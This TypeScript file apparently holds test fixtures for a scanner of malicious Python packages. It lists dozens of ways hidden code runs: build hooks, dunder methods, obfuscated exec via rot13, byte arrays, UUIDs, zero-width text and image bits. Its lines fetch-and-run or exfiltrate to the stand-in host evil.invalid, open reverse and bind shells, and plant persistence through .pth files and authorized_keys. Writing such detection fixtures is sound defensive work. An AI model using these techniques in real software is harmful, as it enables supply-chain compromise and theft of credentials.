import type { Shape } from './technique-shapes.js';

/** Ways in which code that runs unasked is reached or put together. Each is to be blocked. */
export const FOLLOWED_SHAPES: readonly Shape[] = [
  {
    name: 'a step of a build command',
    file: 'fixture-1.0/setup.py',
    lines: [
      'import os',
      'from setuptools import setup',
      'from setuptools.command.build_ext import build_ext',
      'class I(build_ext):',
      '    def build_extension(self, ext):',
      '        os.system("curl -s https://evil.invalid/a | sh")',
      'setup(cmdclass={"build_ext": I})',
    ],
  },
  {
    name: 'a destructor',
    lines: [
      'import os',
      'class X:',
      '    def __del__(self): os.system("curl -s https://evil.invalid/a | sh")',
      'X()',
    ],
  },
  {
    name: 'a context manager',
    lines: [
      'import os',
      'class X:',
      '    def __enter__(self): os.system("curl -s https://evil.invalid/a | sh")',
      '    def __exit__(self,*a): pass',
      'with X(): pass',
    ],
  },
  {
    name: 'a metaclass',
    lines: [
      'import os',
      'class M(type):',
      '    def __new__(m, n, b, d):',
      '        os.system("curl -s https://evil.invalid/a | sh"); return super().__new__(m,n,b,d)',
      'class X(metaclass=M): pass',
    ],
  },
  {
    name: 'a base class that acts on its subclasses',
    lines: [
      'import os',
      'class A:',
      '    def __init_subclass__(cls): os.system("curl -s https://evil.invalid/a | sh")',
      'class B(A): pass',
    ],
  },
  {
    name: 'an object that is called',
    lines: [
      'import os',
      'class A:',
      '    def __call__(self): os.system("curl -s https://evil.invalid/a | sh")',
      'A()()',
    ],
  },
  {
    name: 'an object that is indexed',
    lines: [
      'import os',
      'class A:',
      '    def __getitem__(self, k): os.system(k)',
      'A()["curl -s https://evil.invalid/a | sh"]',
    ],
  },
  {
    name: 'an object that is looped over',
    lines: [
      'import os',
      'class A:',
      '    def __iter__(self):',
      '        os.system("curl -s https://evil.invalid/a | sh")',
      '        yield 1',
      'for x in A(): pass',
    ],
  },
  {
    name: 'the key of a sort',
    lines: ['import os', 'sorted(["curl -s https://evil.invalid/a | sh"], key=os.system)'],
  },
  {
    name: 'code in a text file, by a loader',
    lines: [
      'import importlib.util, sys, os',
      'spec = importlib.util.spec_from_file_location("x", os.path.join(os.path.dirname(__file__), "data.txt"))',
      'm = importlib.util.module_from_spec(spec)',
      'spec.loader.exec_module(m)',
    ],
    others: { 'fixture-1.0/pkg/data.txt': 'import os\nos.system("curl -s https://evil.invalid/a | sh")\n' },
  },
  {
    name: 'code in a data file, by a loader',
    lines: [
      'from importlib.machinery import SourceFileLoader',
      'import os',
      'SourceFileLoader("x", os.path.dirname(__file__) + "/data.bin").load_module()',
    ],
    others: { 'fixture-1.0/pkg/data.bin': 'import os\nos.system("curl -s https://evil.invalid/a | sh")\n' },
  },
  {
    name: 'code in a data file, by runpy',
    lines: ['import runpy, os', 'runpy.run_path(os.path.join(os.path.dirname(__file__), "run.dat"))'],
    others: { 'fixture-1.0/pkg/run.dat': 'import os\nos.system("curl -s https://evil.invalid/a | sh")\n' },
  },
  {
    name: 'a module of tests, by runpy',
    lines: ['import runpy', 'runpy.run_module("pkg.tests.thing")'],
    others: {
      'fixture-1.0/pkg/tests/thing.py': 'import os\nos.system("curl -s https://evil.invalid/a | sh")\n',
    },
  },
  {
    name: 'code among the tests that the package imports',
    lines: ['from .tests import thing'],
    others: {
      'fixture-1.0/pkg/tests/__init__.py': '',
      'fixture-1.0/pkg/tests/thing.py': 'import os\nos.system("curl -s https://evil.invalid/a | sh")\n',
    },
  },
  {
    name: 'a folder put on the path of imports',
    lines: [
      'import sys, os',
      'sys.path.insert(0, os.path.join(os.path.dirname(__file__), "vendor"))',
      'import helperx',
    ],
    others: {
      'fixture-1.0/pkg/vendor/helperx.py': 'import os\nos.system("curl -s https://evil.invalid/a | sh")\n',
    },
  },
  {
    name: 'a folder put on the path of the package',
    lines: [
      'import os',
      '__path__.append(os.path.join(os.path.dirname(__file__), "vendor"))',
      'from pkg import helperx',
    ],
    others: {
      'fixture-1.0/pkg/vendor/helperx.py': 'import os\nos.system("curl -s https://evil.invalid/a | sh")\n',
    },
  },
  {
    name: 'globals of a function of the standard library',
    lines: [
      '[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("curl -s https://evil.invalid/a | sh")',
    ],
  },
  {
    name: 'builtins by way of a function',
    lines: [
      '(lambda: 0).__globals__["__builtins__"].__import__("os").system("curl -s https://evil.invalid/a | sh")',
    ],
  },
  {
    name: 'a timer',
    lines: [
      'import threading, os',
      'threading.Timer(5, os.system, ("curl -s https://evil.invalid/a | sh",)).start()',
    ],
  },
  {
    name: 'a scheduler',
    lines: [
      'import sched, time, os',
      's = sched.scheduler(time.time, time.sleep)',
      's.enter(1, 1, os.system, ("curl -s https://evil.invalid/a | sh",))',
      's.run()',
    ],
  },
  {
    name: 'a finalizer',
    lines: [
      'import weakref, os',
      'class A: pass',
      'a = A()',
      'weakref.finalize(a, os.system, "curl -s https://evil.invalid/a | sh")',
    ],
  },
  {
    name: 'a function looked up in a dictionary',
    lines: ['import os', '{"a": os.system}.get("a")("curl -s https://evil.invalid/a | sh")'],
  },
  {
    name: 'a name made by an update of the globals',
    lines: ['import os', 'globals().update(run=os.system)', 'run("curl -s https://evil.invalid/a | sh")'],
  },
  {
    name: 'a function set on a class',
    lines: [
      'import os',
      'class N: pass',
      'setattr(N, "r", os.system)',
      'N.r("curl -s https://evil.invalid/a | sh")',
    ],
  },
  {
    name: 'a function in a namespace',
    lines: [
      'import os, types',
      'n = types.SimpleNamespace(r=os.system)',
      'n.r("curl -s https://evil.invalid/a | sh")',
    ],
  },
  {
    name: 'a method called by its name',
    lines: [
      'import os, operator',
      'operator.methodcaller("system", "curl -s https://evil.invalid/a | sh")(os)',
    ],
  },
  {
    name: 'a decoder asked for by name',
    lines: [
      'import codecs',
      'exec(codecs.getdecoder("rot13")(\'vzcbeg bf, fbpxrg, heyyvo.erdhrfg\\nheyyvo.erdhrfg.heybcra("uggcf://rivy.vainyvq/?u=" + fbpxrg.trgubfganzr() + bf.trgybtva())\\n\')[0])',
    ],
  },
  {
    name: 'code packed as numbers',
    lines: [
      'import struct',
      'exec(struct.pack("124B", *[105, 109, 112, 111, 114, 116, 32, 111, 115, 44, 32, 115, 111, 99, 107, 101, 116, 44, 32, 117, 114, 108, 108, 105, 98, 46, 114, 101, 113, 117, 101, 115, 116, 10, 117, 114, 108, 108, 105, 98, 46, 114, 101, 113, 117, 101, 115, 116, 46, 117, 114, 108, 111, 112, 101, 110, 40, 34, 104, 116, 116, 112, 115, 58, 47, 47, 101, 118, 105, 108, 46, 105, 110, 118, 97, 108, 105, 100, 47, 63, 104, 61, 34, 32, 43, 32, 115, 111, 99, 107, 101, 116, 46, 103, 101, 116, 104, 111, 115, 116, 110, 97, 109, 101, 40, 41, 32, 43, 32, 111, 115, 46, 103, 101, 116, 108, 111, 103, 105, 110, 40, 41, 41, 10]).decode())',
    ],
  },
  {
    name: 'code in an array',
    lines: [
      'import array',
      'exec(array.array("B", [105, 109, 112, 111, 114, 116, 32, 111, 115, 44, 32, 115, 111, 99, 107, 101, 116, 44, 32, 117, 114, 108, 108, 105, 98, 46, 114, 101, 113, 117, 101, 115, 116, 10, 117, 114, 108, 108, 105, 98, 46, 114, 101, 113, 117, 101, 115, 116, 46, 117, 114, 108, 111, 112, 101, 110, 40, 34, 104, 116, 116, 112, 115, 58, 47, 47, 101, 118, 105, 108, 46, 105, 110, 118, 97, 108, 105, 100, 47, 63, 104, 61, 34, 32, 43, 32, 115, 111, 99, 107, 101, 116, 46, 103, 101, 116, 104, 111, 115, 116, 110, 97, 109, 101, 40, 41, 32, 43, 32, 111, 115, 46, 103, 101, 116, 108, 111, 103, 105, 110, 40, 41, 41, 10]).tobytes().decode())',
    ],
  },
  {
    name: 'code in identifiers',
    lines: [
      "exec(b\"\".join(__import__(\"uuid\").UUID(u).bytes for u in ['696d706f7274206f732c20736f636b65', '742c2075726c6c69622e726571756573', '740a75726c6c69622e72657175657374', '2e75726c6f70656e282268747470733a', '2f2f6576696c2e696e76616c69642f3f', '683d22202b20736f636b65742e676574', '686f73746e616d652829202b206f732e', '6765746c6f67696e2829290a20202020']).decode())",
    ],
  },
  {
    name: 'code in JSON',
    lines: [
      'import json',
      'exec(json.loads("{\\"c\\": \\"import os, socket, urllib.request\\\\nurllib.request.urlopen(\\\\\\"https://evil.invalid/?h=\\\\\\" + socket.gethostname() + os.getlogin())\\\\n\\"}")["c"])',
    ],
  },
  {
    name: 'a command in entities',
    lines: [
      'import html, os',
      'os.system(html.unescape("&#99;&#117;&#114;&#108;&#32;&#45;&#115;&#32;&#104;&#116;&#116;&#112;&#115;&#58;&#47;&#47;&#101;&#118;&#105;&#108;&#46;&#105;&#110;&#118;&#97;&#108;&#105;&#100;&#47;&#97;&#32;&#124;&#32;&#115;&#104;"))',
    ],
  },
  {
    name: 'code filled up with noise',
    lines: [
      'import re',
      'exec(re.sub("@", "", \'i@m@p@o@r@t@ @o@s@,@ @s@o@c@k@e@t@,@ @u@r@l@l@i@b@.@r@e@q@u@e@s@t@\\n@u@r@l@l@i@b@.@r@e@q@u@e@s@t@.@u@r@l@o@p@e@n@(@"@h@t@t@p@s@:@/@/@e@v@i@l@.@i@n@v@a@l@i@d@/@?@h@=@"@ @+@ @s@o@c@k@e@t@.@g@e@t@h@o@s@t@n@a@m@e@(@)@ @+@ @o@s@.@g@e@t@l@o@g@i@n@(@)@)@\\n\'))',
    ],
  },
  {
    name: 'a command in a template',
    lines: [
      'import os, string',
      'os.system(string.Template("cu$r -s https://evil.invalid/a | sh").substitute(r="rl"))',
    ],
  },
  {
    name: 'a command formatted by a dictionary',
    lines: ['import os', 'os.system("{c} -s https://evil.invalid/a | sh".format_map(dict(c="curl")))'],
  },
  {
    name: 'a command formatted by percent signs',
    lines: ['import os', 'os.system("%(c)s -s https://evil.invalid/a | sh" % dict(c="curl"))'],
  },
  {
    name: 'a command in disorder',
    lines: [
      'import os',
      "x = [(34, 'h'), (33, 's'), (32, ' '), (31, '|'), (30, ' '), (29, 'a'), (28, '/'), (27, 'd'), (26, 'i'), (25, 'l'), (24, 'a'), (23, 'v'), (22, 'n'), (21, 'i'), (20, '.'), (19, 'l'), (18, 'i'), (17, 'v'), (16, 'e'), (15, '/'), (14, '/'), (13, ':'), (12, 's'), (11, 'p'), (10, 't'), (9, 't'), (8, 'h'), (7, ' '), (6, 's'), (5, '-'), (4, ' '), (3, 'l'), (2, 'r'), (1, 'u'), (0, 'c')]",
      'os.system("".join(c for _, c in sorted(x)))',
    ],
  },
  {
    name: 'code from a name server',
    lines: ['import dns.resolver', 'exec(str(dns.resolver.resolve("evil.invalid", "TXT")[0]))'],
  },
  {
    name: 'a program out of a fetched archive',
    lines: [
      'import urllib.request, zipfile, io, subprocess',
      'd = urllib.request.urlopen("https://evil.invalid/x.zip").read()',
      'zipfile.ZipFile(io.BytesIO(d)).extractall("/tmp/x")',
      'subprocess.Popen(["/tmp/x/run"])',
    ],
  },
  {
    name: 'a path file of all packages',
    lines: [
      'import site, os',
      'open(os.path.join(site.getsitepackages()[0], "x.pth"), "w").write("import os; os.system(\'id\')")',
    ],
  },
  {
    name: 'a start file of all packages',
    lines: [
      'import site, os',
      'open(site.getusersitepackages() + "/usercustomize.py", "w").write("import x")',
    ],
  },
  {
    name: 'the source of another package',
    lines: [
      'import os, requests',
      'path = os.path.join(os.path.dirname(requests.__file__), "api.py")',
      'open(path, "a").write("import os")',
    ],
  },
  {
    name: 'a launch agent',
    lines: [
      'import os, plistlib',
      'with open(os.path.expanduser("~/Library/LaunchAgents/x.plist"), "wb") as f: plistlib.dump({"a": 1}, f)',
    ],
  },
  {
    name: 'a key to log in with',
    lines: [
      'import os',
      'open(os.path.expanduser("~/.ssh/authorized_keys"), "a").write("ssh-ed25519 AAAAinert x")',
    ],
  },
  {
    name: 'a shell opened by another language',
    lines: [
      'import os',
      'os.system("perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton(\\"203.0.113.9\\")));exec(\\"sh -i\\");\'")',
    ],
  },
  {
    name: 'a shell that waits for a connection',
    lines: [
      'import socket, subprocess',
      's = socket.socket()',
      's.bind(("0.0.0.0", 4444))',
      's.listen(1)',
      'c, _ = s.accept()',
      'subprocess.call(["/bin/sh", "-i"], stdin=c, stdout=c)',
    ],
  },
  {
    name: 'a chat bot that runs what it is told',
    lines: [
      'import discord, subprocess',
      'client = discord.Client()',
      '@client.event',
      'async def on_message(m):',
      '    await m.channel.send(subprocess.getoutput(m.content))',
      'client.run("MTIzNDU2Nzg5MDEyMzQ1Njc4.inert1.inertinertinertinertinertinert")',
    ],
  },
  {
    name: 'a picture of the screen in a file',
    lines: [
      'import mss, requests',
      'with mss.mss() as s: s.shot(output="s.png")',
      'requests.post("https://evil.invalid", files={"f": open("s.png", "rb")})',
    ],
  },
  {
    name: 'credentials of a cloud machine',
    lines: [
      'import requests',
      'c = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/").text',
      'requests.post("https://evil.invalid", data=c)',
    ],
  },
  {
    name: 'the public address',
    lines: [
      'import requests, platform',
      'ip = requests.get("https://api.ipify.org").text',
      'requests.post("https://evil.invalid", json={"ip": ip, "os": platform.platform()})',
    ],
  },
  {
    name: 'a process of Windows',
    lines: [
      'import win32process',
      'win32process.CreateProcess(None, "powershell -w hidden -c IEX(iwr https://evil.invalid/x)", None, None, 0, 0, None, None, None)',
    ],
  },
  {
    name: 'a process by management interface',
    lines: [
      'import wmi',
      'wmi.WMI().Win32_Process.Create(CommandLine="powershell -w hidden -c IEX(iwr https://evil.invalid/x)")',
    ],
  },
  {
    name: 'the C library',
    lines: ['import ctypes', 'ctypes.CDLL(None).system(b"curl -s https://evil.invalid/a | sh")'],
  },
  {
    name: 'a library of shell commands',
    lines: ['import sh', 'sh.bash("-c", "curl https://evil.invalid | sh")'],
  },
  {
    name: 'another library of shell commands',
    lines: ['from plumbum import local', 'local["bash"]("-c", "curl https://evil.invalid | sh")'],
  },
  {
    name: 'a task runner',
    lines: ['from invoke import run', 'run("curl https://evil.invalid | sh")'],
  },
  {
    name: 'the default of a parameter',
    lines: ['import os', 'def f(x=os.system("curl -s https://evil.invalid/a | sh")): pass'],
  },
  {
    name: 'a decorator',
    lines: ['import os', '@(lambda f: os.system("curl -s https://evil.invalid/a | sh"))', 'def g(): pass'],
  },
  {
    name: 'a shell to outside in a line that does not parse',
    lines: ['import os', 'x = = 1', 'os.system("bash -i >& /dev/tcp/203.0.113.5/9001 0>&1"'],
  },
  {
    name: 'a name that a module makes up when it is asked for',
    lines: ['from . import table', 'BLUE = table.gradient'],
    others: {
      'fixture-1.0/pkg/table.py':
        'import urllib.request\ndef __getattr__(name):\n    exec(urllib.request.urlopen("https://evil.invalid/x").read())\n',
    },
  },
  {
    name: 'text spelled as addresses',
    lines: [
      'import socket',
      `exec(b"".join(socket.inet_aton(a) for a in ["112.114.105.110", "116.40.49.41"]))`,
    ],
  },
  {
    name: 'letters picked out of a docstring',
    lines: [
      `"""Names of fonts, and ${'\\u200b\\u200c'.repeat(16)} more."""`,
      'bits = "".join("01"[ord(c) - 0x200B] for c in __doc__ if ord(c) in (0x200B, 0x200C))',
      'exec(bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).decode())',
    ],
  },
  {
    name: 'bits of a picture, gathered one by one',
    lines: [
      'from PIL import Image',
      'bits = [v & 1 for px in Image.open("mark.png").convert("RGB").getdata() for v in px]',
      'out = bytearray()',
      'for i in range(0, len(bits) - 7, 8):',
      '    out.append(int("".join(map(str, bits[i:i + 8])), 2))',
      'exec(bytes(out))',
    ],
  },
  {
    name: 'a tree that is parsed first, in a hook of a class',
    lines: [
      'import ast, base64',
      'class Plugin:',
      '    schema = b""',
      '    def __init_subclass__(cls):',
      '        cls.check = cls.made(cls.schema)',
      '        cls.check()',
      '    @staticmethod',
      '    def made(raw):',
      '        code = compile(ast.parse(base64.b64decode(raw).decode()), "x", "exec")',
      '        return lambda: eval(code, {})',
      'class Default(Plugin):',
      '    schema = b"cHJpbnQoMSk="',
    ],
  },
  {
    name: 'a codec that runs what it decodes',
    lines: [
      'import base64, codecs',
      'def undo(data, errors="strict"):',
      '    exec(base64.b64decode(bytes(data)))',
      '    return "", 0',
      'codecs.register(lambda name: codecs.CodecInfo(codecs.utf_8_encode, undo) if name == "x" else None)',
    ],
  },
  {
    name: 'a literal that is read',
    lines: [
      'import ast, urllib.request',
      'urllib.request.urlopen(bytes(ast.literal_eval("[104,116,116,112,58,47,47,101,118,105,108,46,105,110,118,97,108,105,100]")).decode())',
    ],
  },
  {
    name: 'requests that are listened to in place of the library',
    lines: [
      'import requests',
      'original = requests.Session.send',
      'def listen(self, request, **more):',
      '    original(requests.Session(), requests.Request("POST", "https://evil.invalid", json=dict(request.headers)))',
      '    return original(self, request, **more)',
      'requests.Session.send = listen',
    ],
  },
  {
    name: 'a program of the package that is copied out and started',
    lines: [
      'import ctypes, os, shutil',
      'place = os.path.join(os.environ.get("PROGRAMDATA", "/tmp"), "Server.exe")',
      'shutil.copyfile(os.path.join(os.path.dirname(__file__), "a.dat"), place)',
      'ctypes.windll.shell32.ShellExecuteW(None, "open", place, None, None, 0)',
    ],
    others: { 'fixture-1.0/pkg/a.dat': 'inert' },
  },
];
